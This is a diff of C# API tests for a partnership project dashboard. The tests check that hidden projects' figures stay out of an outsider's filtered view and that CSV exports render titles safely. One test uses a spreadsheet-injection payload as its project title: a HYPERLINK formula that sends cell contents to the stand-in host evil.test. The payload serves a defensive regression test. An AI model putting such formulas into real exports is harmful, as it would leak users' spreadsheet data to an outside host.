@@ -149,6 +149,52 @@ public sealed class DashboardApiTests(ApiFixture app, ITestOutputHelper output) 
         }
     }
 
+    /// <summary>Issue 20, item 3: filtering on a hidden project's value chain gave an outsider its budget, task count and status.</summary>
+    [Fact]
+    public async Task An_outsider_filtering_on_a_hidden_projects_value_chain_learns_nothing_of_it()
+    {
+        var chain = $"filière-{Guid.NewGuid():N}"[..20];
+        using var owner = await App.SignInNewUserAsync("tableau-cache");
+        using var outsider = await App.SignInNewUserAsync("tableau-curieux");
+        await (await owner.Http.Post($"/api/projects?slug={Samples.Slug("cache")}", Samples.Project("Projet confidentiel", chain) with { Budget = new Money(987_654m, Currency.Mad) }))
+            .Read<JointProject>(HttpStatusCode.Created);
+        var query = $"valueChain={Uri.EscapeDataString(chain)}";
+        await Eventually.True(async () => (await Dashboard(owner.Account, query)).Indicators.Projects == 1, "the owner's dashboard to count the project");
+
+        var seen = await Dashboard(outsider.Account, query);
+        var unfiltered = await Dashboard(outsider.Account, "");
+        var indicatorsCsv = await Text(await outsider.Http.GetAsync($"/api/dashboard/indicators.csv?{query}"));
+
+        Assert.Empty(seen.Projects);
+        Assert.Equal(0, seen.Indicators.Projects);
+        Assert.All(seen.Indicators.ByStatus, s => Assert.Equal(0, s.Count));
+        Assert.Equal(new TaskCounts(0, 0), seen.Indicators.Tasks);
+        Assert.DoesNotContain(seen.Indicators.Budget, b => b.Expected > 0);
+        Assert.DoesNotContain(unfiltered.Indicators.ByValueChain, c => c.Name == chain);
+        Assert.Equal(unfiltered.Projects.Length, unfiltered.Indicators.Projects);
+        Assert.DoesNotContain("987", indicatorsCsv, StringComparison.Ordinal);
+        Assert.DoesNotContain(chain, indicatorsCsv, StringComparison.Ordinal);
+    }
+
+    /// <summary>Issue 20, item 4: formulas typed in a project reached a partner's download as live cells.</summary>
+    [Fact]
+    public async Task A_formula_typed_as_a_project_title_reaches_the_csv_export_as_text()
+    {
+        var chain = $"filière-{Guid.NewGuid():N}"[..20];
+        using var owner = await App.SignInNewUserAsync("tableau-formule");
+        const string title = "=HYPERLINK(\"http://evil.test/?d=\"&A1;\"Cliquez\")";
+        await (await owner.Http.Post($"/api/projects?slug={Samples.Slug("formule")}", Samples.Project(title, chain))).Read<JointProject>(HttpStatusCode.Created);
+
+        List<string[]> rows = [];
+        await Eventually.True(async () =>
+        {
+            rows = CsvReader.Parse(await Text(await owner.Http.GetAsync($"/api/dashboard/projects.csv?valueChain={Uri.EscapeDataString(chain)}")));
+            return rows.Count == 2;
+        }, "the project in the export");
+
+        Assert.Equal("'" + title, rows[1][rows[0].ToList().IndexOf("Titre")]);
+    }
+
     [Fact]
     public async Task The_csv_exports_hold_the_same_numbers_as_the_json_table_with_accents_quotes_and_commas_intact()
     {
@@ -174,7 +220,7 @@ public sealed class DashboardApiTests(ApiFixture app, ITestOutputHelper output) 
             projects = CsvReader.Parse(await Text(csvResponse));
             using var indicatorResponse = await owner.Http.GetAsync($"/api/dashboard/indicators.csv?{query}");
             indicators = CsvReader.Parse(await Text(indicatorResponse));
-            return json.Projects.Length == 2 && projects.Count == 3 && indicators.Contains(["projects", "", "2"], RowComparer.Instance);
+            return json.Projects.Length == 2 && projects.Count == 3 && indicators.Contains(["Projets", "", "2", ""], RowComparer.Instance);
         }, "both projects in the JSON table and the CSV");
 
         Assert.Equal("text/csv", csvResponse!.Content.Headers.ContentType?.MediaType);
@@ -182,33 +228,35 @@ public sealed class DashboardApiTests(ApiFixture app, ITestOutputHelper output) 
         Assert.Equal("projets-kaolack-oriental.csv", csvResponse.Content.Headers.ContentDisposition?.FileNameStar ?? csvResponse.Content.Headers.ContentDisposition?.FileName);
         var bytes = await csvResponse.Content.ReadAsByteArrayAsync();
         Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
-        Assert.Equal(DashboardExports.ProjectColumns, projects[0]);
+        var labels = ExportLabels.French;
+        Assert.Equal(labels.ProjectColumns, projects[0]);
         var rows = projects.Skip(1).ToArray();
         Assert.Equal(json.Projects.Select(p => p.Slug), rows.Select(r => r[0]));
         foreach (var (row, p) in rows.Zip(json.Projects))
         {
-            var cells = DashboardExports.ProjectColumns.Zip(row).ToDictionary(c => c.First, c => c.Second);
-            Assert.Equal(p.Title, cells["title"]);
-            Assert.Equal(JsonName(p.Status), cells["status"]);
-            Assert.Equal(JsonName(p.RegionPair), cells["regionPair"]);
-            Assert.Equal(string.Join("; ", p.ValueChains), cells["valueChains"]);
-            Assert.Equal(p.Milestones, new MilestoneCounts(Int(cells["milestonesDone"]), Int(cells["milestonesOnTrack"]), Int(cells["milestonesLate"]), Int(cells["milestonesTotal"])));
-            Assert.Equal(p.Tasks, new TaskCounts(Int(cells["tasksDone"]), Int(cells["tasksTotal"])));
-            Assert.Equal((p.KaolackPartners, p.OrientalPartners), (Int(cells["kaolackPartners"]), Int(cells["orientalPartners"])));
-            Assert.Equal("1250000.5 XOF", cells["budget"]);
-            Assert.Equal(p.Budget.Single().Expected, decimal.Parse(cells["budget"].Split(' ')[0], CultureInfo.InvariantCulture));
-            Assert.Equal(p.LastActivityAt!.Value, DateTimeOffset.Parse(cells["lastActivityAt"], CultureInfo.InvariantCulture), TimeSpan.FromSeconds(1));
+            var cells = labels.ProjectColumns.Zip(row).ToDictionary(c => c.First, c => c.Second);
+            Assert.Equal(p.Title, cells["Titre"]);
+            Assert.Equal(labels.Status[p.Status], cells["Statut"]);
+            Assert.Equal(labels.RegionPairs[p.RegionPair], cells["Partenaires"]);
+            Assert.Equal(string.Join(", ", p.ValueChains), cells["Filières"]);
+            Assert.Equal(p.Milestones, new MilestoneCounts(Int(cells["Jalons atteints"]), Int(cells["Jalons dans les temps"]), Int(cells["Jalons en retard"]), Int(cells["Jalons"])));
+            Assert.Equal(p.Tasks, new TaskCounts(Int(cells["Tâches faites"]), Int(cells["Tâches"])));
+            Assert.Equal((p.KaolackPartners, p.OrientalPartners), (Int(cells["Partenaires de Kaolack"]), Int(cells["Partenaires de l'Oriental"])));
+            // The amount as a French spreadsheet reads a number, its currency in a column of its own.
+            Assert.Equal(("1250000,5", "XOF"), (cells["Budget"], cells["Monnaie"]));
+            Assert.Equal(p.Budget.Single().Expected, decimal.Parse(cells["Budget"], CultureInfo.GetCultureInfo("fr-FR")));
+            Assert.Equal(p.LastActivityAt!.Value, DateTimeOffset.Parse(cells["Dernière activité (UTC)"] + "Z", CultureInfo.InvariantCulture), TimeSpan.FromSeconds(1));
         }
         Assert.Equal(titles.Order(StringComparer.Ordinal), rows.Select(r => r[1]).Order(StringComparer.Ordinal));
 
-        Assert.Equal(DashboardExports.IndicatorColumns, indicators[0]);
-        string Indicator(string name, string key) => Assert.Single(indicators, r => r[0] == name && r[1] == key)[2];
-        Assert.Equal(json.Indicators.Projects.ToString(CultureInfo.InvariantCulture), Indicator("projects", ""));
-        Assert.All(json.Indicators.ByStatus, s => Assert.Equal(s.Count.ToString(CultureInfo.InvariantCulture), Indicator("projects-by-status", JsonName(s.Status))));
-        Assert.Equal(json.Indicators.Tasks.Total.ToString(CultureInfo.InvariantCulture), Indicator("tasks", "total"));
-        Assert.Equal("2500001", Indicator("budget", "XOF"));
-        Assert.Equal(json.Indicators.Budget.Single(b => b.Currency == Currency.Xof).Expected, decimal.Parse(Indicator("budget", "XOF"), CultureInfo.InvariantCulture));
-        Assert.Equal(2, Int(Indicator("projects-by-value-chain", chain)));
+        Assert.Equal(labels.IndicatorColumns, indicators[0]);
+        string[] Indicator(string name, string key) => Assert.Single(indicators, r => r[0] == name && r[1] == key);
+        Assert.Equal(json.Indicators.Projects.ToString(CultureInfo.InvariantCulture), Indicator("Projets", "")[2]);
+        Assert.All(json.Indicators.ByStatus, s => Assert.Equal(s.Count.ToString(CultureInfo.InvariantCulture), Indicator("Projets par statut", labels.Status[s.Status])[2]));
+        Assert.Equal(json.Indicators.Tasks.Total.ToString(CultureInfo.InvariantCulture), Indicator("Tâches", "Total")[2]);
+        Assert.Equal(["Budget", "", "2500001", "XOF"], Indicator("Budget", ""));
+        Assert.Equal(json.Indicators.Budget.Single(b => b.Currency == Currency.Xof).Expected, decimal.Parse(Indicator("Budget", "")[2], CultureInfo.GetCultureInfo("fr-FR")));
+        Assert.Equal(2, Int(Indicator("Projets par filière", chain)[2]));
         csvResponse.Dispose();
     }
 
